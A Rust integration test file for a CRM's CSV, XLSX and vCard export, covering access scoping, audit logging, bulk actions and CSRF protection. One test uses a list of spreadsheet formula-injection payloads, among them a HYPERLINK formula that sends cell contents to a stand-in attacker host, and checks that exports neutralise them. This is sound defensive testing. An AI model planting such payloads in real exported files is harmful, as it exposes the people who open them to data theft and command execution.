//! Export (F6): CSV, XLSX and vCard of a list with its filters, sort and columns, only
//! what the user may see, hostile text neutralised, every export audited; bulk actions
//! on a whole filtered list, each record judged on its own.

use crate::auth::login;
use crate::both;
use crate::support::{PASSWORD, TestApp};
use reqwest::{Method, StatusCode};
use serde_json::{Value, json};

/// A GET as `who`: status, headers, body bytes.
async fn download(
    t: &TestApp,
    who: &str,
    path: &str,
) -> (StatusCode, reqwest::header::HeaderMap, Vec<u8>) {
    let mut req = t.client.get(format!("{}{}", t.base, path));
    if let Some(token) = t.tokens.get(who) {
        req = req.bearer_auth(token);
    }
    let resp = req.send().await.expect("request");
    let (s, h) = (resp.status(), resp.headers().clone());
    (s, h, resp.bytes().await.expect("body").to_vec())
}

/// Parses a CSV export: it starts with a UTF-8 BOM; returns the header and the rows.
fn read_csv(bytes: &[u8], delimiter: u8) -> (Vec<String>, Vec<Vec<String>>) {
    assert!(bytes.starts_with("\u{FEFF}".as_bytes()), "BOM first");
    let mut r = csv::ReaderBuilder::new()
        .delimiter(delimiter)
        .from_reader(&bytes[3..]);
    let header = r
        .headers()
        .expect("header")
        .iter()
        .map(String::from)
        .collect();
    let rows = r
        .records()
        .map(|rec| rec.expect("row").iter().map(String::from).collect())
        .collect();
    (header, rows)
}

/// Export rows written to the audit log: (user, object, details).
async fn exports_logged(t: &TestApp) -> Vec<(String, String, Value)> {
    use hamkor_store::Exec;
    let mut db = t.app.db.clone();
    let rows = db
        .fetch_all(&hamkor_store::Sql::new(
            "SELECT user_id, object, changes FROM audit_log WHERE action = 'export' ORDER BY at, id",
        ))
        .await
        .expect("audit");
    rows.iter()
        .map(|r| {
            (
                r.id("user_id").unwrap().unwrap().to_string(),
                r.req_text("object").unwrap(),
                r.json("changes").unwrap().unwrap(),
            )
        })
        .collect()
}

const HOSTILE: [&str; 6] = [
    "=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")",
    "+1",
    "-2+3",
    "@SUM(A1:A9)",
    "\tcmd",
    "\rcalc",
];

async fn csv_export_follows_the_list(t: TestApp) {
    let mine = |name: &'static str, kind: &'static str, industry: &'static str| {
        let t = &t;
        async move {
            let (s, v) = t
                .post(
                    "sales_a1",
                    "/api/v1/accounts",
                    json!({"name": name, "kind": kind, "industry": industry, "phones": [{"number": "+998 90 123 45 67", "kind": "work"}]}),
                )
                .await;
            assert_eq!(s, StatusCode::CREATED, "{v}");
            v["id"].as_str().unwrap().to_string()
        }
    };
    mine("Bravo", "client", "Textile").await;
    mine("Тошкент Савдо", "client", "Savdo; «чай», \"quoted\"").await;
    mine("Alpha", "client", "Food").await;
    mine("Zulu prospect", "prospect", "Food").await;
    t.account("sales_b", "sales_b", "Other team's client").await;

    // The administrator's export: filtered, sorted and with the chosen columns.
    let (s, h, body) = download(
        &t,
        "admin",
        "/api/v1/accounts/export?format=csv&kind=client&sort=-name&columns=name,kind,industry,phones,owner_id",
    )
    .await;
    assert_eq!(s, StatusCode::OK, "{}", String::from_utf8_lossy(&body));
    assert_eq!(h["content-type"], "text/csv; charset=utf-8");
    let cd = h["content-disposition"].to_str().unwrap();
    assert!(
        cd.starts_with("attachment; filename=\"accounts-") && cd.ends_with(".csv\""),
        "{cd}"
    );
    let (header, rows) = read_csv(&body, b',');
    assert_eq!(header, ["Name", "Kind", "Industry", "Phones", "Owner"]);
    let names: Vec<&str> = rows.iter().map(|r| r[0].as_str()).collect();
    assert_eq!(
        names,
        ["Тошкент Савдо", "Other team's client", "Bravo", "Alpha"],
        "clients only, by name descending"
    );
    assert_eq!(rows[0][1], "Client", "the choice's label");
    assert_eq!(
        rows[0][2], "Savdo; «чай», \"quoted\"",
        "quoted and read back whole"
    );
    // A phone starts with + and so is neutralised too; its kind is shown as on the page.
    assert_eq!(rows[0][3], "'+998 90 123 45 67 (work)");
    assert_eq!(rows[0][4], "sales_a1", "the owner by name");

    // Semicolons for Excel in locales with a decimal comma.
    let (_, _, body) = download(
        &t,
        "admin",
        "/api/v1/accounts/export?kind=prospect&columns=name,industry&delimiter=semicolon",
    )
    .await;
    let (header, rows) = read_csv(&body, b';');
    assert_eq!(header, ["Name", "Industry"]);
    assert_eq!(rows, [["Zulu prospect", "Food"]]);

    // A salesperson exports only their own records, whatever the filters say.
    let (s, _, body) = download(
        &t,
        "sales_a1",
        "/api/v1/accounts/export?columns=name&sort=name",
    )
    .await;
    assert_eq!(s, StatusCode::OK);
    let (_, rows) = read_csv(&body, b',');
    let names: Vec<&str> = rows.iter().map(|r| r[0].as_str()).collect();
    assert_eq!(names, ["Alpha", "Bravo", "Zulu prospect", "Тошкент Савдо"]);

    // Without columns: every field, the id first, then custom fields.
    let (_, _, body) = download(&t, "admin", "/api/v1/accounts/export?kind=prospect").await;
    let (header, rows) = read_csv(&body, b',');
    assert_eq!(header[0], "ID");
    assert!(header.contains(&"Tax id".to_string()) && header.contains(&"Changed".to_string()));
    assert_eq!(rows.len(), 1);

    // Every export is in the audit log with who, what, how and how many.
    let logged = exports_logged(&t).await;
    assert_eq!(logged.len(), 4, "{logged:?}");
    let (_, v) = t.get("admin", "/api/v1/audit?action=export").await;
    let from: Vec<&Value> = v["items"]
        .as_array()
        .unwrap()
        .iter()
        .map(|e| &e["ip"])
        .collect();
    assert_eq!(from, [&json!("127.0.0.1"); 4], "exports say from where");
    let (user, object, details) = &logged[0];
    assert_eq!(user, &t.id("admin"));
    assert_eq!(object, "account");
    assert_eq!(details["format"], "csv");
    assert_eq!(details["rows"], 4);
    assert_eq!(details["complete"], true);
    assert_eq!(details["via"], "api");
    assert_eq!(
        details["params"],
        json!([["kind", "client"], ["sort", "-name"]])
    );
    assert_eq!(
        details["columns"],
        json!(["name", "kind", "industry", "phones", "owner_id"])
    );
    assert_eq!(logged[2].0, t.id("sales_a1"));
    assert_eq!(logged[2].2["rows"], 4);

    // Refusals come before any byte, and write nothing: a role that reads no deals, a
    // bad filter, an unknown column, vCard of accounts.
    let audit = t.audit_rows().await;
    let (s, _, _) = download(&t, "support", "/api/v1/deals/export?format=csv").await;
    assert_eq!(s, StatusCode::FORBIDDEN);
    for bad in [
        "/api/v1/accounts/export?nope=1",
        "/api/v1/accounts/export?columns=name,secret",
        "/api/v1/accounts/export?format=vcf",
        "/api/v1/accounts/export?format=pdf",
    ] {
        let (s, _, body) = download(&t, "admin", bad).await;
        assert_eq!(
            s,
            StatusCode::UNPROCESSABLE_ENTITY,
            "{bad}: {}",
            String::from_utf8_lossy(&body)
        );
    }
    assert_eq!(
        t.audit_rows().await,
        audit,
        "nothing logged for a refused export"
    );
    let (s, _, _) = download(&t, "nobody", "/api/v1/accounts/export").await;
    assert_eq!(s, StatusCode::UNAUTHORIZED);
}
both!(csv_export_follows_the_list);

async fn hostile_cells_are_neutralised(t: TestApp) {
    use hamkor_store::Exec;
    for (i, hostile) in HOSTILE.iter().enumerate() {
        let (s, v) = t
            .post(
                "admin",
                "/api/v1/accounts",
                json!({"name": format!("Firm {i}"), "legal_name": format!("|cmd{i}")}),
            )
            .await;
        assert_eq!(s, StatusCode::CREATED, "{v}");
        // The API trims what it is given, so text starting with a tab or a carriage
        // return can only come from elsewhere (an old import, the database itself): it
        // is written straight into the table here.
        let mut db = t.app.db.clone();
        db.execute(
            &hamkor_store::Sql::new("UPDATE accounts SET industry = $1 WHERE id = $2")
                .arg(hostile.to_string())
                .arg(
                    v["id"]
                        .as_str()
                        .unwrap()
                        .parse::<hamkor_domain::Id>()
                        .unwrap(),
                ),
        )
        .await
        .expect("update");
    }
    let (_, v) = t
        .post("admin", "/api/v1/accounts", json!({"name": "%0A=1+1"}))
        .await;
    assert!(v["id"].is_string(), "{v}");
    let stored: Vec<String> = std::iter::once(String::new())
        .chain(HOSTILE.iter().map(|h| h.to_string()))
        .collect();
    let cols = "columns=name,industry,legal_name&sort=name";

    let (_, _, body) = download(
        &t,
        "admin",
        &format!("/api/v1/accounts/export?format=csv&{cols}"),
    )
    .await;
    let (_, rows) = read_csv(&body, b',');
    assert_eq!(rows[0][0], "'%0A=1+1");
    for (i, row) in rows[1..].iter().enumerate() {
        assert_eq!(row[0], format!("Firm {i}"));
        assert_eq!(row[1], format!("'{}", stored[i + 1]), "industry {i}");
        assert!(row[1].starts_with('\''), "{:?}", row[1]);
        assert_eq!(row[2], format!("'|cmd{i}"));
    }

    let (s, h, body) = download(
        &t,
        "admin",
        &format!("/api/v1/accounts/export?format=xlsx&{cols}"),
    )
    .await;
    assert_eq!(s, StatusCode::OK);
    assert_eq!(
        h["content-type"],
        "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    );
    use calamine::{Data, Reader};
    let mut book = calamine::Xlsx::new(std::io::Cursor::new(body)).expect("an xlsx");
    let sheet = book.sheet_names()[0].clone();
    let range = book.worksheet_range(&sheet).expect("sheet");
    let formulas = book.worksheet_formula(&sheet).expect("formulas");
    assert!(
        formulas.cells().all(|(_, _, f)| f.is_empty()),
        "no formula anywhere"
    );
    let rows: Vec<&[Data]> = range.rows().collect();
    assert_eq!(rows[0][0], Data::String("Name".into()));
    assert_eq!(rows[1][0], Data::String("'%0A=1+1".into()));
    for (i, row) in rows[2..].iter().enumerate() {
        assert_eq!(
            row[1],
            Data::String(format!("'{}", stored[i + 1])),
            "industry {i}"
        );
        assert_eq!(row[2], Data::String(format!("'|cmd{i}")));
    }
}
both!(hostile_cells_are_neutralised);

async fn xlsx_keeps_numbers_and_dates(t: TestApp) {
    for (key, kind) in [
        ("employees", "number"),
        ("budget", "money"),
        ("renewal", "date"),
    ] {
        let (s, v) = t
            .post(
                "admin",
                "/api/v1/custom_fields",
                json!({"object": "account", "key": key, "label": format!("L {key}"), "kind": kind}),
            )
            .await;
        assert_eq!(s, StatusCode::CREATED, "{v}");
    }
    for (name, n, amount) in [("Small", -2.5, "-15.50"), ("Big", 1200.0, "1234567.89")] {
        let (s, v) = t
            .post(
                "admin",
                "/api/v1/accounts",
                json!({"name": name, "custom": {"employees": n, "budget": {"amount": amount, "currency": "UZS"}, "renewal": "2026-03-31"}}),
            )
            .await;
        assert_eq!(s, StatusCode::CREATED, "{v}");
    }
    let (s, _, body) = download(
        &t,
        "admin",
        "/api/v1/accounts/export?format=xlsx&sort=-custom.employees&columns=name,custom.employees,custom.budget,custom.renewal,created_at&custom.employees[gt]=-100",
    )
    .await;
    assert_eq!(s, StatusCode::OK);
    use calamine::{Data, DataType, Reader};
    let mut book = calamine::Xlsx::new(std::io::Cursor::new(body)).expect("an xlsx");
    let sheet = book.sheet_names()[0].clone();
    assert_eq!(sheet, "Accounts");
    let range = book.worksheet_range(&sheet).expect("sheet");
    let rows: Vec<&[Data]> = range.rows().collect();
    assert_eq!(
        rows[0],
        [
            Data::String("Name".into()),
            Data::String("L employees".into()),
            Data::String("L budget".into()),
            Data::String("L renewal".into()),
            Data::String("Created".into())
        ]
    );
    assert_eq!(rows.len(), 3);
    assert_eq!(rows[1][0], Data::String("Big".into()));
    assert_eq!(rows[1][1], Data::Float(1200.0), "a number stays a number");
    assert_eq!(
        rows[2][1],
        Data::Float(-2.5),
        "a negative number is not neutralised"
    );
    assert_eq!(rows[1][2].as_f64(), Some(1234567.89), "money is a number");
    assert_eq!(rows[2][2].as_f64(), Some(-15.5));
    assert!(
        matches!(rows[1][3], Data::DateTime(_)),
        "a date cell: {:?}",
        rows[1][3]
    );
    match &rows[1][3] {
        Data::DateTime(d) => assert_eq!(d.as_f64(), 46112.0, "2026-03-31"),
        other => panic!("a date cell: {other:?}"),
    }
    assert!(matches!(rows[1][4], Data::DateTime(_)), "{:?}", rows[1][4]);

    // The same as CSV: machine-readable numbers and dates, money with its currency.
    let (_, _, body) = download(
        &t,
        "admin",
        "/api/v1/accounts/export?sort=-custom.employees&columns=custom.employees,custom.budget,custom.renewal",
    )
    .await;
    let (_, rows) = read_csv(&body, b',');
    assert_eq!(rows[0], ["1200", "1234567.89 UZS", "2026-03-31"]);
    assert_eq!(rows[1], ["-2.5", "'-15.50 UZS", "2026-03-31"]);
}
both!(xlsx_keeps_numbers_and_dates);

/// Unfolds vCard lines (a line starting with a space continues the one before).
fn vcard_lines(text: &str) -> Vec<String> {
    assert!(
        !text.replace("\r\n", "").contains('\n'),
        "CRLF line ends only"
    );
    let mut out: Vec<String> = Vec::new();
    for line in text.split("\r\n") {
        assert!(line.len() <= 75, "folded at 75 octets: {line:?}");
        match line.strip_prefix(' ') {
            Some(rest) => out.last_mut().expect("a line to continue").push_str(rest),
            None if line.is_empty() => {}
            None => out.push(line.to_string()),
        }
    }
    out
}

async fn contacts_as_vcards(t: TestApp) {
    let acme = t.account("sales_a1", "sales_a1", "Acme; Sons, Ltd").await;
    let hidden = t.account("sales_b", "sales_b", "Hidden Co").await;
    let long = "Примечание ".repeat(5);
    let ivanov = t
        .contact(
            "admin",
            "sales_a1",
            json!({"first_name": "Иван", "middle_name": "Петрович", "last_name": "Иванов",
                "phones": [{"number": "+998 90 123-45-67", "kind": "mobile"}, {"number": "71 200 00 00", "kind": "work"}],
                "emails": [{"address": "ivan@acme.uz", "kind": "work"}, {"address": "ivan@mail.ru", "kind": "personal"}],
                "birthday": "1980-01-31", "tags": ["vip", "a,b"],
                "accounts": [{"account_id": acme, "position": format!("Director, {long}")}, {"account_id": hidden, "position": "Secret"}]}),
        )
        .await;
    t.contact("admin", "sales_a1", json!({"last_name": "Bekov"}))
        .await;
    t.contact("admin", "sales_b", json!({"last_name": "Other"}))
        .await;

    let (s, h, body) = download(
        &t,
        "sales_a1",
        "/api/v1/contacts/export?format=vcf&sort=last_name",
    )
    .await;
    assert_eq!(s, StatusCode::OK);
    assert_eq!(h["content-type"], "text/vcard; charset=utf-8");
    let text = String::from_utf8(body).unwrap();
    let lines = vcard_lines(&text);
    let cards: Vec<&[String]> = lines
        .split(|l| l == "END:VCARD")
        .filter(|c| !c.is_empty())
        .collect();
    assert_eq!(
        cards.len(),
        2,
        "only the salesperson's own contacts: {lines:?}"
    );
    assert!(
        cards[0].contains(&"N:Bekov;;;;".to_string()),
        "{:?}",
        cards[0]
    );
    let card = cards[1];
    let has = |l: &str| card.iter().any(|x| x == l);
    assert_eq!(card[0], "BEGIN:VCARD");
    assert_eq!(card[1], "VERSION:4.0");
    assert!(has(&format!("UID:urn:uuid:{ivanov}")), "{card:?}");
    assert!(has("FN:Иванов Иван Петрович"));
    assert!(has("N:Иванов;Иван;Петрович;;"));
    assert!(
        has("TEL;VALUE=uri;TYPE=\"cell\":tel:+998901234567"),
        "{card:?}"
    );
    assert!(has("EMAIL;TYPE=work:ivan@acme.uz"));
    assert!(has("EMAIL;TYPE=home:ivan@mail.ru"));
    assert!(has("BDAY:19800131"));
    assert!(has("ORG:Acme\\; Sons\\, Ltd"), "escaped: {card:?}");
    assert!(
        has(&format!("TITLE:Director\\, {}", long.trim())),
        "{card:?}"
    );
    assert!(has("CATEGORIES:vip,a\\,b"));
    assert!(
        !text.contains("Hidden") && !text.contains("Secret"),
        "an account the user cannot see"
    );
    assert_eq!(exports_logged(&t).await[0].2["rows"], 2);
}
both!(contacts_as_vcards);

/// A whole filtered list: every match the user can see is judged on its own, those the
/// role may not change are refused and listed, nothing outside the filter is touched.
async fn bulk_on_a_filtered_list(t: TestApp) {
    let mut mine = Vec::new();
    for i in 0..7 {
        mine.push(
            t.account("sales_a1", "sales_a1", &format!("Mine {i}"))
                .await,
        );
    }
    let colleague = t.account("sales_a2", "sales_a2", "Colleague client").await;
    let other_team = t.account("sales_b", "sales_b", "Beta client").await;
    let (s, v) = t
        .post(
            "sales_a1",
            "/api/v1/accounts",
            json!({"name": "Mine prospect", "kind": "prospect"}),
        )
        .await;
    assert_eq!(s, StatusCode::CREATED, "{v}");
    let prospect = v["id"].as_str().unwrap().to_string();

    // The marketer sees every account but changes only their own: all refused.
    let audit = t.audit_rows().await;
    let (s, v) = t
        .post(
            "marketer",
            "/api/v1/accounts/bulk",
            json!({"action": "add_tag", "tag": "campaign", "matching": {"kind": "client"}}),
        )
        .await;
    assert_eq!(s, StatusCode::OK, "{v}");
    assert_eq!(v["done"], 0);
    assert_eq!(v["refused_count"], 9);
    assert!(
        v["refused"]
            .as_array()
            .unwrap()
            .iter()
            .all(|r| r["reason"] == "forbidden")
    );
    assert_eq!(t.audit_rows().await, audit, "nothing changed");

    // The head of Alpha: the team's clients change, the other team's are not even seen,
    // the prospect is outside the filter.
    let (s, v) = t
        .post(
            "head_a",
            "/api/v1/accounts/bulk",
            json!({"action": "set_field", "field": "industry", "value": "Textile", "matching": {"kind": "client", "q": "i"}}),
        )
        .await;
    assert_eq!(s, StatusCode::OK, "{v}");
    assert_eq!(v["done"], 8, "{v}");
    assert_eq!(v["refused_count"], 0);
    let (_, a) = t
        .get("admin", &format!("/api/v1/accounts/{colleague}"))
        .await;
    assert_eq!(a["industry"], "Textile");
    for untouched in [&other_team, &prospect] {
        let (_, a) = t
            .get("admin", &format!("/api/v1/accounts/{untouched}"))
            .await;
        assert_eq!(a["industry"], Value::Null, "{untouched}");
    }

    // A salesperson: their own change, the colleague's (seen? no: own scope) is not met.
    let (_, v) = t
        .post(
            "sales_a1",
            "/api/v1/accounts/bulk",
            json!({"action": "delete", "matching": {"industry": "Textile"}}),
        )
        .await;
    assert_eq!(v["done"], 7, "{v}");
    assert_eq!(t.count("accounts").await, 3);

    // Either ids or matching, and matching is an object of list parameters.
    for bad in [
        json!({"action": "delete", "ids": [colleague], "matching": {}}),
        json!({"action": "delete", "matching": "kind=client"}),
        json!({"action": "delete", "matching": {"nope": "1"}}),
        json!({"action": "delete"}),
    ] {
        let (s, v) = t.post("admin", "/api/v1/accounts/bulk", bad.clone()).await;
        assert_eq!(s, StatusCode::UNPROCESSABLE_ENTITY, "{bad}: {v}");
    }
    assert_eq!(t.count("accounts").await, 3);
}
both!(bulk_on_a_filtered_list);

/// The list page offers the exports with its filters, sort and columns, and a bulk
/// action on every matching record asks first, saying how many.
async fn list_page_exports_and_bulk_all(t: TestApp) {
    for i in 0..3 {
        t.account("sales_a1", "sales_a1", &format!("Page {i}"))
            .await;
    }
    let (s, v) = t
        .post(
            "sales_a1",
            "/api/v1/accounts",
            json!({"name": "Page prospect", "kind": "prospect"}),
        )
        .await;
    assert_eq!(s, StatusCode::CREATED, "{v}");
    let cookie = login(&t, "head_a@test.hamkor.uz", PASSWORD)
        .await
        .expect("login");
    let get = |path: String| {
        let t = &t;
        let cookie = cookie.clone();
        async move {
            let r = t
                .client
                .get(format!("{}{}", t.base, path))
                .header("cookie", format!("hamkor_session={cookie}"))
                .send()
                .await
                .unwrap();
            (
                r.status(),
                r.headers().clone(),
                r.bytes().await.unwrap().to_vec(),
            )
        }
    };
    let (_, _, html) = get("/accounts?kind=client&sort=-name&col=name&col=industry".into()).await;
    let html = String::from_utf8(html).unwrap();
    let link =
        "/accounts/export?format=xlsx&#38;kind=client&#38;sort=-name&#38;col=name&#38;col=industry";
    assert!(html.contains(link), "{html}");
    assert!(html.contains("format=csv&#38;delimiter=semicolon"));
    assert!(!html.contains("format=vcf"), "vCard is for contacts");
    let (s, h, body) = get(link.replace("&#38;", "&").replace("xlsx", "csv")).await;
    assert_eq!(s, StatusCode::OK);
    assert!(
        h["content-disposition"]
            .to_str()
            .unwrap()
            .starts_with("attachment")
    );
    let (header, rows) = read_csv(&body, b',');
    assert_eq!(header, ["Name", "Industry"]);
    assert_eq!(
        rows.iter().map(|r| r[0].as_str()).collect::<Vec<_>>(),
        ["Page 2", "Page 1", "Page 0"]
    );
    assert_eq!(exports_logged(&t).await[0].2["via"], "ui");
    let (_, _, html) = get("/contacts".into()).await;
    assert!(String::from_utf8(html).unwrap().contains("format=vcf"));
    // A link from another site does not start an export in the user's name.
    let r = t
        .client
        .get(format!("{}/accounts/export?format=csv", t.base))
        .header("cookie", format!("hamkor_session={cookie}"))
        .header("sec-fetch-site", "cross-site")
        .send()
        .await
        .unwrap();
    assert_eq!(r.status(), StatusCode::FORBIDDEN);
    assert_eq!(exports_logged(&t).await.len(), 1);

    // Bulk on every matching record: a confirmation with the count, then the action.
    let csrf = html_csrf(&get("/accounts".into()).await.2);
    let post = |form: Vec<(&'static str, String)>| {
        let t = &t;
        let cookie = cookie.clone();
        let csrf = csrf.clone();
        async move {
            let mut f = vec![("_csrf", csrf)];
            f.extend(form);
            let r = t
                .client
                .post(format!("{}/accounts/bulk", t.base))
                .header("cookie", format!("hamkor_session={cookie}"))
                .form(&f)
                .send()
                .await
                .unwrap();
            (r.status(), r.text().await.unwrap())
        }
    };
    let form = vec![
        ("target", "all".to_string()),
        ("params", "kind=client".to_string()),
        ("action", "add_tag".to_string()),
        ("tag", "bulk".to_string()),
        ("return_to", "/accounts?kind=client".to_string()),
    ];
    let (s, html) = post(form.clone()).await;
    assert_eq!(s, StatusCode::OK);
    assert!(
        html.contains("id=\"bulk-confirm\"") && html.contains("to 3 records"),
        "{html}"
    );
    assert!(html.contains("name=\"confirm\" value=\"yes\""));
    let (_, v) = t
        .get("admin", "/api/v1/accounts?tags=bulk&count=true")
        .await;
    assert_eq!(v["total"], 0, "nothing before the confirmation");
    let mut confirmed = form.clone();
    confirmed.push(("confirm", "yes".to_string()));
    let (s, html) = post(confirmed).await;
    assert_eq!(s, StatusCode::OK);
    assert!(html.contains("<strong>3</strong>"), "{html}");
    let (_, v) = t
        .get("admin", "/api/v1/accounts?tags=bulk&count=true")
        .await;
    assert_eq!(v["total"], 3);
}
both!(list_page_exports_and_bulk_all);

fn html_csrf(html: &[u8]) -> String {
    let html = String::from_utf8_lossy(html);
    let at = html.find("name=\"_csrf\" value=\"").expect("csrf field") + 20;
    html[at..].split('"').next().unwrap().to_string()
}

/// `hamkor export` runs the same exporter from the shell, as the named user (or the
/// first administrator), and logs it.
async fn shell_export(t: TestApp) {
    t.contact(
        "admin",
        "sales_a1",
        json!({"last_name": "Shell", "first_name": "Mine"}),
    )
    .await;
    t.contact(
        "admin",
        "sales_b",
        json!({"last_name": "Shell", "first_name": "Theirs"}),
    )
    .await;
    let dir = tempfile::tempdir().unwrap();
    let run = |args: Vec<String>| {
        let db = t.db_url.clone();
        async move {
            tokio::process::Command::new(env!("CARGO_BIN_EXE_hamkor"))
                .env("HAMKOR_DATABASE_URL", db)
                .env("HAMKOR_CONFIG", "/nonexistent/hamkor.toml")
                .env("HAMKOR_LOG", "warn")
                .args(args)
                .output()
                .await
                .expect("run hamkor")
        }
    };
    let file = dir.path().join("mine.csv").display().to_string();
    let out = run(vec![
        "export".into(),
        "contacts".into(),
        file.clone(),
        "--user".into(),
        "sales_a1@test.hamkor.uz".into(),
        "--filter".into(),
        "last_name=Shell".into(),
        "--columns".into(),
        "name,owner_id".into(),
        "--sort".into(),
        "-last_name".into(),
    ])
    .await;
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    let (header, rows) = read_csv(&std::fs::read(&file).unwrap(), b',');
    assert_eq!(header, ["Name", "Owner"]);
    assert_eq!(rows, [["Shell Mine", "sales_a1"]]);
    assert!(!std::path::Path::new(&format!("{file}.part")).exists());

    // Default user: the first administrator; the format from the extension.
    let file = dir.path().join("all.xlsx").display().to_string();
    let out = run(vec![
        "export".into(),
        "contacts".into(),
        file.clone(),
        "--q".into(),
        "shell".into(),
    ])
    .await;
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    assert!(String::from_utf8_lossy(&out.stderr).contains("Exported 2 contacts as admin@"));
    use calamine::Reader;
    let mut book =
        calamine::Xlsx::new(std::io::Cursor::new(std::fs::read(&file).unwrap())).unwrap();
    let sheet = book.sheet_names()[0].clone();
    assert_eq!(book.worksheet_range(&sheet).unwrap().height(), 3);

    // Refusals: no such object, a bad filter, vCard of accounts; no file is left behind.
    for args in [
        vec!["export", "widgets", "x.csv"],
        vec!["export", "contacts", "bad.csv", "--filter", "nope=1"],
        vec!["export", "accounts", "bad.vcf"],
        vec!["export", "contacts", "bad.txt"],
    ] {
        let mut a: Vec<String> = args.iter().map(|s| s.to_string()).collect();
        a[2] = dir.path().join(&a[2]).display().to_string();
        let out = run(a).await;
        assert!(!out.status.success(), "{args:?}");
    }
    assert_eq!(std::fs::read_dir(dir.path()).unwrap().count(), 2);
    let logged = exports_logged(&t).await;
    assert_eq!(logged.len(), 2);
    assert_eq!(logged[0].0, t.id("sales_a1"));
    assert_eq!(logged[0].2["via"], "shell");
    assert_eq!(logged[1].0, t.id("admin"));
    // The API route answers too, with the same request shape.
    let (s, _, _) = t
        .request(
            "admin",
            Method::GET,
            "/api/v1/contacts/export?format=vcf",
            None,
            &[],
        )
        .await;
    assert_eq!(s, StatusCode::OK);
}
both!(shell_export);
